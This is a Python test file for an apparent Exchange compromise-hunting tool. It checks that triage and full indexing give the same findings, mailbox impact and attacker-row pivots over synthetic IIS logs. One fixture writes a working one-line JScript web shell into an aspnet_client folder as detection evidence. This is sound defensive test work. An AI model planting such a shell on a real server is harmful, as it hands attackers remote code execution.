"""``--index triage`` (the default) and ``--index full`` give identical findings (ids, keys,
severities, confidences, counts, first and last seen) and identical mailbox impact; after the
triage pivot pass, the store holds exactly the rows of the attacker's IPs and user agents that the
full index holds. The full index is the oracle."""

from __future__ import annotations

import dataclasses
import sys
from pathlib import Path
from typing import Any
from unittest import mock

import pyarrow.parquet as pq
import pytest

from exhunt import api
from exhunt.api import ScanOptions, scan
from exhunt.demo import DemoSpec, generate
from exhunt.detections.pivot import gather
from exhunt.events.store import connect
from exhunt.findings.model import AssessmentDocument
from tests.detections.caselogs import write_case_logs
from tests.detections.test_cases import load_cases


def summary(document: AssessmentDocument) -> list[tuple[Any, ...]]:
    return sorted((f.id, f.check, f.host, f.key, f.severity, f.confidence, f.count, f.first_seen, f.last_seen)
                  for f in document.findings)


def both_ways(evidence: Path | list[Path], out: Path, **options: Any) -> tuple[AssessmentDocument, AssessmentDocument]:
    """Triage and full. The full index's detections read the rows triage would select
    (``api.FULL_DETECTS_SELECTED``): a third scan runs them over every row, and must agree, so the
    prefilter stays held to every row."""
    roots = evidence if isinstance(evidence, list) else [evidence]
    docs = [scan(roots, ScanOptions(out=out / index, quiet=True, progress=False, index=index, **options)).document
            for index in ("triage", "full")]
    with mock.patch.object(api, "FULL_DETECTS_SELECTED", False):
        every = scan(roots, ScanOptions(out=out / "full-every-row", quiet=True, progress=False, index="full",
                                        **options)).document
    assert summary(every) == summary(docs[1]), "detections over every row differ from those over the selection"
    assert impact(every) == impact(docs[1])
    assert stored_rows(out / "full-every-row", "selected_events") == 0
    return docs[0], docs[1]


def impact(document: AssessmentDocument) -> list[dict[str, Any]]:
    return [dataclasses.asdict(e) for e in document.impact]


def attacker_rows(case: Path, document: AssessmentDocument) -> list[tuple[Any, ...]]:
    """(host, path, line) of every stored row from the attacker's IPs and user agents, as the
    full index's findings name them."""
    con = connect(case / "store", extra_tables=("hits",))
    try:
        found = gather(con, document.findings, con.sql("SELECT * FROM hits").to_arrow_table().to_pylist())
    finally:
        con.close()
    return indicator_rows(case, found.values["client_ip"], found.values["user_agent"])


def indicator_rows(case: Path, ips: list[str], uas: list[str]) -> list[tuple[Any, ...]]:
    con = connect(case / "store")
    try:
        return sorted(con.execute("""
            SELECT host, path, line FROM events
            WHERE line IS NOT NULL AND (list_contains(?::VARCHAR[], lower(split_part(client_ip, '%', 1)))
                                        OR list_contains(?::VARCHAR[], replace(user_agent, '+', ' ')))""",
                                  [ips, uas]).fetchall())
    finally:
        con.close()


def assert_same(triage: AssessmentDocument, full: AssessmentDocument, out: Path) -> None:
    """The oracle: findings, impact, and the attacker's rows (none stored twice)."""
    assert summary(triage) == summary(full)
    assert impact(triage) == impact(full)
    full_rows = attacker_rows(out / "full", full)
    assert attacker_rows(out / "triage", full) == full_rows
    con = connect(out / "triage" / "store")
    try:
        twice = con.execute("SELECT count(*) FROM (SELECT host, path, line FROM events WHERE line IS NOT NULL "
                            "GROUP BY ALL HAVING count(*) > 1)").fetchone()
    finally:
        con.close()
    assert twice == (0,), "a line stored twice (first pass and pivot pass)"


def stored_rows(case: Path, table: str = "events") -> int:
    return sum(pq.read_metadata(p).num_rows for p in (case / "store" / table).rglob("*.parquet"))


def test_every_detection_case_fixture_both_ways(tmp_path: Path) -> None:
    """Every text-log row of every detection case, between benign lines, in real log files."""
    rows = [r for case in load_cases() for r in ((case.values[0].get("rows") or {}).get("events") or [])]
    write_case_logs(tmp_path / "evidence", rows, padding=3)
    triage, full = both_ways(tmp_path / "evidence", tmp_path, host="EXCH01", jobs=1)
    assert len(full.findings) >= 20
    assert_same(triage, full, tmp_path)
    assert full.rules["triage"]["index"] == "full" and "rows" not in full.rules["triage"]["pivot"]
    assert triage.rules["triage"]["index"] == "triage" and not triage.rules["triage"]["full_parse"]
    assert triage.rules["triage"]["pivot"]["indicators"]["client_ip"] > 0


def test_triage_alone_selects_lines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the impact's full-parse need, triage stores far fewer rows and finds the same."""
    from exhunt.detections import prefilter

    monkeypatch.setattr(prefilter, "from_impact", lambda p: None)
    rows = [r for case in load_cases() for r in ((case.values[0].get("rows") or {}).get("events") or [])]
    write_case_logs(tmp_path / "evidence", rows, padding=3)
    triage, full = both_ways(tmp_path / "evidence", tmp_path, host="EXCH01", jobs=1)
    assert summary(triage) == summary(full) and triage.rules["triage"]["index"] == "triage"
    assert stored_rows(tmp_path / "triage") < stored_rows(tmp_path / "full") / 2, "triage stored the padding"


@pytest.mark.parametrize("jobs", [1, 2])
def test_demo_both_ways(tmp_path: Path, jobs: int, monkeypatch: pytest.MonkeyPatch) -> None:
    from exhunt.parallel import pivot

    monkeypatch.setattr(pivot, "IN_PROCESS_BYTES", 0)  # jobs 2: the pivot pass on the pool, split logs in ranges
    generate(tmp_path / "evidence", DemoSpec(per_day=800))
    triage, full = both_ways(tmp_path / "evidence", tmp_path, host="EXCH01", jobs=jobs, split_size=256 << 10)
    assert_same(triage, full, tmp_path)
    assert len(full.findings) > 10 and full.impact
    pivot = triage.rules["triage"]["pivot"]
    assert pivot["rows"] > 0 and pivot["files"] > 0, pivot
    assert stored_rows(tmp_path / "triage") < stored_rows(tmp_path / "full") / 2
    # the full index's detections read the web rows triage would store before its pivot pass
    assert 0 < stored_rows(tmp_path / "full", "selected_events") < stored_rows(tmp_path / "triage")
    t_host, f_host = triage.hosts[0], full.hosts[0]
    assert (t_host.first_seen, t_host.last_seen, t_host.build) == (f_host.first_seen, f_host.last_seen, f_host.build)
    assert t_host.coverage.events <= f_host.coverage.events


def test_bench_corpus_both_ways(tmp_path: Path) -> None:
    """The bench's generated corpus (bench/corpus.py: IIS, HttpProxy, ECP, OABGenerator on two
    hosts, the ProxyLogon chain planted on one), small, both ways and with the hosts' logs split."""
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "bench"))
    try:
        from corpus import generate as bench_corpus
    finally:
        sys.path.pop(0)
    corpus = bench_corpus(tmp_path / "bench", 0.01, 2, jobs=1)
    hosts = sorted(p for p in corpus.iterdir() if p.is_dir())
    triage, full = both_ways(hosts, tmp_path, jobs=2, split_size=1 << 20)
    assert_same(triage, full, tmp_path)
    assert len(full.findings) >= 5
    assert triage.rules["triage"]["pivot"]["rows"] > 0


def test_clean_evidence_has_no_pivot_pass(tmp_path: Path) -> None:
    """No finding gives an indicator: no second read of the logs."""
    generate(tmp_path / "evidence", DemoSpec(per_day=100, attack=False))
    triage = scan([tmp_path / "evidence"], ScanOptions(out=tmp_path / "t", quiet=True, progress=False,
                                                       host="EXCH01", jobs=1)).document
    pivot = triage.rules["triage"]["pivot"]
    assert pivot["files"] == 0 and pivot["rows"] == 0 and "reason" in pivot


def test_no_text_log_no_pivot_indicators(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A web root alone (a shell in it: a high finding): no text log to search, so the pass does not
    even gather the findings' indicators."""
    from exhunt import api

    shell = tmp_path / "evidence" / "inetpub" / "wwwroot" / "aspnet_client" / "x.aspx"
    shell.parent.mkdir(parents=True)
    shell.write_bytes(b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>')
    calls: list[int] = []
    real = api.attacker.gather
    monkeypatch.setattr(api.attacker, "gather", lambda *a: calls.append(1) or real(*a))
    document = scan([tmp_path / "evidence"], ScanOptions(out=tmp_path / "t", quiet=True, progress=False,
                                                         host="EXCH01", jobs=1)).document
    assert any(f.severity in ("high", "critical") for f in document.findings)
    assert document.rules["triage"]["pivot"]["reason"] == "no text log to search" and calls == []


def test_pivot_rows_keep_their_lines_across_blocks_and_chunks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The pivot pass counts a segment's lines only when a later hit needs them: the attacker's
    rows after header blocks and read chunks without a hit keep the full index's line numbers."""
    from exhunt.artifacts import w3c_fast

    monkeypatch.setattr(w3c_fast, "CHUNK", 64 << 10)  # many chunks per block
    head = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
            "#Date: 2021-03-03 00:00:00",
            "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
            "sc-status"]

    def row(n: int, ip: str, method: str = "GET", stem: str = "/owa/") -> str:
        time = f"0{n // 3600 % 10}:{n // 60 % 60:02d}:{n % 60:02d}"
        return f"2021-03-03 {time} 10.0.0.5 {method} {stem} - 443 - {ip} x 200"

    lines: list[str] = []
    for block in range(4):  # the attacker shows in blocks 0 and 2 only; the shell is used in block 2
        lines += head
        for n in range(block * 3000, block * 3000 + 3000):
            attacker = block in (0, 2) and n % 997 == 5
            lines.append(row(n, "203.0.113.9" if attacker else f"10.0.{n % 7}.{n % 200 + 1}"))
        if block == 2:
            lines.append(row(block * 3000, "203.0.113.9", "POST", "/aspnet_client/system_web/discover.aspx"))
    path = tmp_path / "evidence/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"
    path.parent.mkdir(parents=True)
    path.write_text("\r\n".join(lines) + "\r\n")
    triage, full = both_ways(tmp_path / "evidence", tmp_path, host="EXCH01", jobs=1)
    assert_same(triage, full, tmp_path)
    rows = attacker_rows(tmp_path / "triage", full)
    assert len(rows) == 8 and triage.rules["triage"]["pivot"]["rows"] > 0, rows


def test_impact_case_both_ways(tmp_path: Path) -> None:
    """The mailbox impact's own case (every log that shows mailbox access: EWS, audit, tracking,
    SIDs, grantees): the full index's impact reads the selection plus the attacker's rows
    (``detections.impact.pivot_rows``) and must equal the impact over every row and triage's."""
    from tests.detections.impact import fixture

    evidence = fixture.write_case(tmp_path / "evidence")
    triage, full = both_ways(evidence, tmp_path, host="EXCH01", jobs=1)
    assert summary(triage) == summary(full)
    assert impact(triage) == impact(full)
    assert {e.mailbox for e in full.impact} >= set(fixture.EXPECTED) - {"*"}


@pytest.mark.parametrize("jobs", [1, 2])  # 2: the hosts' coverage on its cursor while the impact runs
def test_full_index_impact_reads_the_selection(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, jobs: int) -> None:
    """``--index full``: the impact reads the selection and the attacker's rows, not every row;
    every stored row of the attacker's IPs and user agents is among them, none twice. The hosts'
    coverage, counted beside it on another cursor, still counts every row."""
    from tests.detections.impact import fixture

    seen: list[tuple[int, int, list[tuple[Any, ...]]]] = []
    assess_impact = api.assess_impact

    def counting(con, findings, hit_rows, store, read=None):  # type: ignore[no-untyped-def]
        found = gather(con, findings, hit_rows).values
        rows = con.execute("SELECT count(*), count(DISTINCT (host, path, line)) FROM events").fetchone()
        attacker = con.execute("""
            SELECT host, path, line FROM events WHERE line IS NOT NULL
              AND (list_contains(?::VARCHAR[], lower(split_part(client_ip, '%', 1)))
                   OR list_contains(?::VARCHAR[], replace(user_agent, '+', ' ')))""",
                               [found["client_ip"], found["user_agent"]]).fetchall()
        seen.append((rows[0], rows[1], sorted(attacker)))
        return assess_impact(con, findings, hit_rows, store, read)

    monkeypatch.setattr(api, "assess_impact", counting)
    evidence = fixture.write_case(tmp_path / "evidence")
    document = scan([evidence], ScanOptions(out=tmp_path / "full", quiet=True, progress=False, index="full",
                                            host="EXCH01", jobs=jobs)).document
    (rows, distinct, attacker), = seen
    stored = stored_rows(tmp_path / "full")
    assert document.hosts[0].coverage.events == stored
    assert rows == distinct, "a row in the selection twice"
    assert rows < stored / 2, (rows, stored)
    assert attacker and attacker == indicator_rows(tmp_path / "full", *_attacker_values(tmp_path / "full"))


def _attacker_values(case: Path) -> tuple[list[str], list[str]]:
    from exhunt.findings.document import load_document

    con = connect(case / "store", extra_tables=("hits",))
    try:
        found = gather(con, load_document(case).findings, con.sql("SELECT * FROM hits").to_arrow_table().to_pylist())
    finally:
        con.close()
    return found.values["client_ip"], found.values["user_agent"]
